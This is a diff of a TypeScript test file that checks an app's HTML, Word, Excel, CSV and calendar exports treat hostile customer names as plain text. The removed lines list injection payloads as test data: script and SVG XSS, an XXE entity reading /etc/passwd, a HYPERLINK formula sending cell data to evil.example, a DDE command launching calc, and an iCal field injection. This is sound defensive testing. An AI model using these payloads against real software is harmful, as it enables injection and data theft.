@@ -1,8 +1,6 @@
-import { strFromU8, unzipSync } from "fflate";
 import ICAL from "ical.js";
 import { describe, expect, test } from "vitest";
 import { day } from "../../../core/base/day.ts";
-import type { Paper, PaperBlock } from "../../../core/base/paper.ts";
 import { feedText } from "../../../core/meeting/feed/feed-text.ts";
 import { minutesText } from "../../../core/meeting/minutes/minutes-text.ts";
 import { createWords } from "../../../core/words/words.ts";
@@ -15,61 +13,11 @@ import { documentJson } from "../../../formats/json/document-json.ts";
 import { documentXlsx } from "../../../formats/xlsx/document-xlsx.ts";
 import { writeXlsx } from "../../../formats/xlsx/write-xlsx.ts";
 import { writeTable } from "../../../formats/write-table.ts";
+import { HOSTILE_NAMES, paperAbout, xmlParts } from "../../builders/hostile-names.ts";
 
 /* A customer's name comes from a file of others. Whatever it is, it is a name: in every form that leaves the app. */
 
-const NAMES = [
-  "<img src=x onerror=alert(1)>",
-  "</style></title></text><script>alert(1)</script>",
-  `"><svg/onload='alert(1)'>`,
-  "&lt;script&gt;&#60;b&#62;",
-  "]]><!--<?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>",
-  '=HYPERLINK("http://evil.example/?"&A1,"x")',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "+1-2",
-  "\t=1+1",
-  "a\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT",
-  'a;b,c\\nd:"e"',
-  "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
-  "`code` # *b* _i_ > q | t ~~s~~",
-  "{{count}} $t(base.cancel) %s ${x}",
-  "__proto__",
-  "\u202egnp.exe\u0000\u0007\u001b[31m\ufffe\ud800",
-];
 const words = createWords("zh-CN", zhCn, "CNY");
-
-/** A document that says a name in every kind of block. */
-function paperAbout(name: string): Paper {
-  const said = { key: "review.text", params: { text: name } };
-  const blocks: readonly PaperBlock[] = [
-    { kind: "text", message: said },
-    { kind: "commentary", text: name },
-    { kind: "figures", figures: [{ label: said, quantity: { unit: "count", value: 1 }, note: said }] },
-    { kind: "list", title: said, items: [{ message: said, detail: said, tone: "behind" }], empty: said },
-    {
-      kind: "table",
-      id: "t",
-      title: said,
-      columns: [{ key: "a", title: said, unit: "text" }],
-      rows: [{ key: "r", depth: 0, emphasis: "none", cells: [{ text: name }] }],
-      notes: [said],
-    },
-    {
-      kind: "chart",
-      id: "c",
-      title: said,
-      shape: "bars",
-      unit: "count",
-      labels: [said],
-      series: [{ name: said, values: [1] }],
-      target: [2],
-      targetName: said,
-    },
-    { kind: "signatures", lines: [said] },
-  ];
-  const section = { id: "s", title: said, newPage: false, blocks };
-  return { title: said, subtitle: said, runningHead: said, hasContents: true, sections: [section] };
-}
 
 const plain = documentHtml(paperAbout("王芳"), words);
 
@@ -78,14 +26,14 @@ function tagsOf(html: string): readonly string[] {
   return [...html.matchAll(/<\/?[a-z!?][^\s/>]*/gi)].map(([tag]) => tag.toLowerCase());
 }
 
-/** The parts of a package of XML, by name. */
-function xmlParts(bytes: Uint8Array): readonly [string, string][] {
-  return Object.entries(unzipSync(bytes))
-    .filter(([name]) => /\.(xml|rels)$/.test(name))
-    .map(([name, part]) => [name, strFromU8(part)]);
+/** Signs that XML does not have, as themselves or as references; the parser of a browser has its say in `browser/xml.spec.ts`. */
+function notXml(parts: readonly [string, string][]): readonly string[] {
+  // eslint-disable-next-line no-control-regex -- exactly these characters are meant
+  const bad = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|&#(?!x?[0-9a-f]+;)|&#(0|x0)*;/i;
+  return parts.flatMap(([part, xml]) => (bad.test(xml) ? [part] : []));
 }
 
-describe.each(NAMES)("the name %j", (name) => {
+describe.each(HOSTILE_NAMES)("the name %j", (name) => {
   test("adds no element to a page, on paper and in its charts", () => {
     const html = documentHtml(paperAbout(name), words);
     // Lines that the manager broke in a commentary stay broken.
@@ -97,11 +45,13 @@ describe.each(NAMES)("the name %j", (name) => {
     const expected = xmlParts(await documentDocx(paperAbout("王芳"), words));
     const kinds = ([part, xml]: [string, string]) => [part, [...new Set(tagsOf(xml))].toSorted()];
     expect(parts.map(kinds)).toEqual(expected.map(kinds));
+    expect(notXml(parts)).toEqual([]);
   });
 
   test("is text in a workbook and never a formula", async () => {
     const parts = xmlParts(await writeXlsx(documentXlsx(paperAbout(name), words, () => null)));
     const table = xmlParts(await writeTable({ name, columns: [name], rows: [[name]], format: "xlsx" }));
+    expect(notXml([...parts, ...table])).toEqual([]);
     for (const [part, xml] of [...parts, ...table]) {
       expect({ part, formulas: xml.match(/<f[\s>]/g) }).toEqual({ part, formulas: null });
       expect(xml).not.toMatch(/<(script|img|svg)|<!ENTITY|<hyperlink/i);
@@ -109,7 +59,7 @@ describe.each(NAMES)("the name %j", (name) => {
   });
 });
 
-describe.each(NAMES)("as text and in a calendar, the name %j", (name) => {
+describe.each(HOSTILE_NAMES)("as text and in a calendar, the name %j", (name) => {
   test("is one cell in a CSV file, and none that a spreadsheet reckons", async () => {
     const bytes = await writeTable({ name: "t", columns: ["a", "b"], rows: [[name, "next"]], format: "csv" });
     const read = readCsv(bytes);
